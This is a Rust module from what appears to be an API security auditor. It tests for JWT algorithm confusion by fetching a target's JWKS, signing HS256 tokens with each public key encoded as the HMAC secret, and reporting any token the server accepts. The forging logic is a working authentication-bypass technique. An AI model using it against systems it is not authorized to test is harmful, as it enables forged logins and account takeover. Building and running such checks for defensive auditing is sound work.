//! Algorithm confusion: HS256 tokens signed with each public key the API publishes (its JWKS),
//! in the encodings libraries have been known to accept as an HMAC secret (PEM, raw key bytes,
//! the JWK's JSON). A verifier that takes the algorithm from the token checks these with the
//! public key as the secret, so anyone can sign.

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use serde_json::Value;

use super::jwt::{hmac_token, is_accepted, HmacAlg, Jwt};
use super::Ctx;
use crate::client::{ProbeError, Req};
use crate::findings::{self, Finding, Severity};

const JWKS_PATHS: [&str; 2] = ["/.well-known/jwks.json", "/jwks.json"];

/// HS256 tokens signed with each published public key, in the encodings libraries have been
/// known to accept as an HMAC secret.
pub(crate) async fn run(ctx: &mut Ctx<'_>, jwt: &Jwt, probe: &str) -> Result<(), ProbeError> {
    let mut keys = Vec::new();
    // An OpenID provider names its JWKS; only a path on the target's own origin is followed.
    let discovery = ctx
        .send(&Req::get("/.well-known/openid-configuration"))
        .await?;
    let origin = ctx.probe.origin().as_str().trim_end_matches('/').to_owned();
    let announced = discovery
        .json()
        .and_then(|d| d.get("jwks_uri").and_then(Value::as_str).map(str::to_owned))
        .and_then(|uri| uri.strip_prefix(&origin).map(str::to_owned))
        .filter(|path| path.starts_with('/'));
    let mut paths: Vec<String> = announced.into_iter().collect();
    paths.extend(JWKS_PATHS.iter().map(|p| (*p).to_owned()));
    for path in paths {
        let answer = ctx.send(&Req::get(&path)).await?;
        if let Some(found) = answer
            .json()
            .and_then(|j| j.get("keys").and_then(Value::as_array).cloned())
        {
            keys = found;
            break;
        }
    }
    if keys.is_empty() {
        ctx.note("no JWKS (openid-configuration's jwks_uri, /.well-known/jwks.json, /jwks.json): algorithm confusion was not checked");
        return Ok(());
    }
    for key in keys.iter().take(3) {
        let mut header = serde_json::json!({"alg": "HS256", "typ": jwt.header.get("typ").cloned().unwrap_or(Value::from("JWT"))});
        if let Some(kid) = key.get("kid").or_else(|| jwt.header.get("kid")) {
            header["kid"] = kid.clone();
        }
        for (label, secret) in secrets_of(key) {
            let token = hmac_token(&header, &jwt.claims, HmacAlg::Hs256, &secret);
            let status = ctx.send(&Req::get(probe).bearer(&token)).await?.status;
            if is_accepted(status) {
                ctx.report(Finding::new(&findings::ALG_CONFUSION, Severity::Critical, format!(
                    "GET {probe} with an HS256 token whose secret is the JWKS key {} ({label}) -> {status}",
                    key.get("kid").and_then(Value::as_str).unwrap_or("without kid")
                )));
                return Ok(());
            }
        }
    }
    Ok(())
}

/// Candidate HMAC secrets for one JWK: its PEM public key, its raw key bytes and its JSON.
pub(crate) fn secrets_of(key: &Value) -> Vec<(&'static str, Vec<u8>)> {
    let field = |name: &str| {
        key.get(name)
            .and_then(Value::as_str)
            .and_then(|v| URL_SAFE_NO_PAD.decode(v.trim_end_matches('=')).ok())
    };
    let mut out = Vec::new();
    let spki = match key.get("kty").and_then(Value::as_str) {
        Some("OKP") => field("x").map(|x| [ED25519_SPKI_PREFIX.as_slice(), x.as_slice()].concat()),
        Some("EC") => field("x")
            .zip(field("y"))
            .filter(|(x, y)| x.len() == 32 && y.len() == 32)
            .map(|(x, y)| [P256_SPKI_PREFIX.as_slice(), x.as_slice(), y.as_slice()].concat()),
        Some("RSA") => field("n").zip(field("e")).map(|(n, e)| rsa_spki(&n, &e)),
        _ => None,
    };
    if let Some(der) = spki {
        out.push(("PEM public key", pem(&der).into_bytes()));
    }
    if let Some(raw) = field("x").or_else(|| field("n")) {
        out.push(("raw key bytes", raw));
    }
    out.push(("JWK JSON", key.to_string().into_bytes()));
    out
}

const ED25519_SPKI_PREFIX: [u8; 12] = [
    0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00,
];
const P256_SPKI_PREFIX: [u8; 27] = [
    0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08, 0x2a,
    0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00, 0x04,
];

fn pem(der: &[u8]) -> String {
    let body = STANDARD.encode(der);
    let lines: Vec<&str> = body
        .as_bytes()
        .chunks(64)
        .filter_map(|c| std::str::from_utf8(c).ok())
        .collect();
    format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        lines.join("\n")
    )
}

/// DER: a tag, a length, the contents.
fn der(tag: u8, contents: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let len = contents.len();
    if len < 0x80 {
        out.push(u8::try_from(len).unwrap_or(0));
    } else {
        let bytes: Vec<u8> = len
            .to_be_bytes()
            .into_iter()
            .skip_while(|b| *b == 0)
            .collect();
        out.push(0x80 | u8::try_from(bytes.len()).unwrap_or(0));
        out.extend(bytes);
    }
    out.extend_from_slice(contents);
    out
}

fn der_uint(bytes: &[u8]) -> Vec<u8> {
    let trimmed: Vec<u8> = bytes.iter().copied().skip_while(|b| *b == 0).collect();
    let mut contents = Vec::with_capacity(trimmed.len() + 1);
    if trimmed.first().is_none_or(|b| b & 0x80 != 0) {
        contents.push(0);
    }
    contents.extend(trimmed);
    der(0x02, &contents)
}

/// SubjectPublicKeyInfo of an RSA key (rsaEncryption, NULL parameters). Encoded here in a few
/// lines: the crates that do it are the key libraries themselves (`rsa`, `p256`), which the
/// auditor would pull in only to print a public key it never uses.
fn rsa_spki(n: &[u8], e: &[u8]) -> Vec<u8> {
    const RSA_ALGORITHM: [u8; 15] = [
        0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00,
    ];
    let public_key = der(0x30, &[der_uint(n), der_uint(e)].concat());
    let bit_string = der(0x03, &[&[0u8][..], public_key.as_slice()].concat());
    der(0x30, &[&RSA_ALGORITHM[..], bit_string.as_slice()].concat())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn public_keys_become_pem_and_raw_secrets() {
        let x = URL_SAFE_NO_PAD.encode([7u8; 32]);
        let secrets =
            secrets_of(&serde_json::json!({"kty": "OKP", "crv": "Ed25519", "x": x, "kid": "k"}));
        let labels: Vec<&str> = secrets.iter().map(|(l, _)| *l).collect();
        assert_eq!(labels, ["PEM public key", "raw key bytes", "JWK JSON"]);
        let pem = String::from_utf8(secrets[0].1.clone()).unwrap();
        assert!(
            pem.starts_with("-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA"),
            "{pem}"
        );
        // A 2048-bit modulus with the high bit set needs a leading zero and a two-byte length.
        let spki = rsa_spki(&[0xff; 256], &[1, 0, 1]);
        assert_eq!(&spki[..4], &[0x30, 0x82, 0x01, 0x22]);
    }
}
